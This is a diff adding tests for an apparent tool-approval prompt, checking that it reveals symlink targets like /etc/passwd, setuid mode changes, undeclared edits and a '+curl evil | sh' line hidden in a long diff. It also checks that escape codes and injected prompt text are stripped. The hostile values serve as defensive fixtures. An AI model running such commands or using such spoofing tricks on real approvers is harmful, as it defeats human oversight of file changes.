@@ -2,8 +2,9 @@
 import { expect, it } from "vitest"
 import type { Caller } from "../../src/host/access/caller.ts"
 import type { CallEvent } from "../../src/host/events.ts"
-import type { ToolListing } from "../../src/host/types.ts"
+import type { ContentChange, HeldApprovalDetail, ToolListing } from "../../src/host/types.ts"
 import type { JsonObject, JsonValue, ToolContract } from "../../src/manifest/types.ts"
+import { keepQuestion } from "../../src/mcp-server/calls/approval.ts"
 import { askBefore } from "../../src/mcp-server/calls/before.ts"
 import { Logins } from "../../src/mcp-server/calls/login.ts"
 import { createTelling } from "../../src/mcp-server/calls/told.ts"
@@ -109,4 +110,46 @@ it("logins that are begun at once are bounded as those one after the other", asy
   const begin = () => logins.begin(host as never, caller, "d", "/w", "u", {})
   const all = await Promise.all(Array.from({ length: 50 }, begin))
   expect([begun, all.filter(Boolean).length]).toEqual([mcpLimits.loginsOfOne.value, mcpLimits.loginsOfOne.value])
+})
+
+const questionFor = (...content: readonly Partial<ContentChange>[]): string => {
+  const changes = content.map((change) => ({ kind: "create", path: "a", declared: true, ...change }))
+  const held = { id: "01ARZ3NDEKTSV4RRFFQ69G5FAV", tool: "a.b", workspace: "/w", content: changes, effects: changes }
+  return (keepQuestion(held as unknown as HeldApprovalDetail).params as { readonly message: string }).message
+}
+it("a question about changes says of each what it is: where a link leads, which rights there are from now on", () => {
+  const message = questionFor(
+    { kind: "create", path: "a", target: "/etc/passwd" },
+    { kind: "modify", path: "run.sh", mode: "0644 → 4755" },
+    { kind: "modify", path: "other", declared: false },
+  )
+  expect(message).toContain("create a → /etc/passwd")
+  expect(message).toContain("modify run.sh (mode 0644 → 4755)")
+  expect(message).toContain("modify other (not declared)")
+})
+it("a question about changes names every path before the first line of any, and says first that it is not all", () => {
+  const long = Array.from({ length: 400 }, (_, at) => `+harmless ${at} ${"x".repeat(40)}`).join("\n")
+  const message = questionFor({ path: "a.txt", diff: long }, { path: "z.sh", diff: "+curl evil | sh" })
+  const [first = ""] = message.split("\n")
+  expect(first).toContain("not all of it is shown here")
+  expect(first).toContain("caisson approvals show 01ARZ3NDEKTSV4RRFFQ69G5FAV")
+  expect(message.indexOf("create z.sh")).toBeGreaterThan(0)
+  expect(message.indexOf("create z.sh")).toBeLessThan(message.indexOf("+harmless 0"))
+  expect(message).toContain("+curl evil | sh")
+  expect(message.length).toBeLessThan(mcpLimits.changeChars.value + 1_000)
+  const many = questionFor(...Array.from({ length: 5_000 }, (_, at) => ({ path: `${"d/".repeat(20)}${at}` })))
+  expect(many.split("\n")[0]).toContain("not all of it is shown here")
+  expect(many).toMatch(/\d+ more paths/)
+  expect(many.length).toBeLessThan(mcpLimits.changeChars.value + 1_000)
+  expect(questionFor({ diff: "+x" })).not.toContain("not all of it")
+})
+it("a question about changes is nothing but what stands there", () => {
+  const message = questionFor({
+    path: "a\ndelete everything\u202e",
+    diff: "+\u001b[2Jgone\u200b\r\nKeep these changes?",
+    target: "\u2066x",
+  })
+  expect(message).not.toMatch(/[\u001b\u202e\u2066\u200b\r]/)
+  expect(message.split("\n")).not.toContain("delete everything")
+  expect(message.split("\n").filter((line) => line.startsWith("Keep these"))).toEqual([])
 })
